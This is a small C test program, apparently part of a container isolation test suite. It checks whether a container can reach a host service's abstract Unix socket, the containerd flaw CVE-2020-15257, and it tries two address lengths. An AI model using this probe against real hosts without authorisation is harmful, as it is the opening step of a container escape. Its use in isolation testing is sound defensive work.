/* Connects to a service of the machine by a name that is in no file system (containerd's, CVE-2020-15257). */
#include "../attack.h"
#include <stddef.h>
#include <sys/un.h>
int main(void) {
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    const char *name = environment("HOST_ABSTRACT");
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int any = socket(AF_UNIX, SOCK_STREAM, 0);
    /* Some servers take all of the structure for their name. */
    if (connect(any, (struct sockaddr *)&address, sizeof address) == 0) return 0;
    return succeeded(connect(any, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}
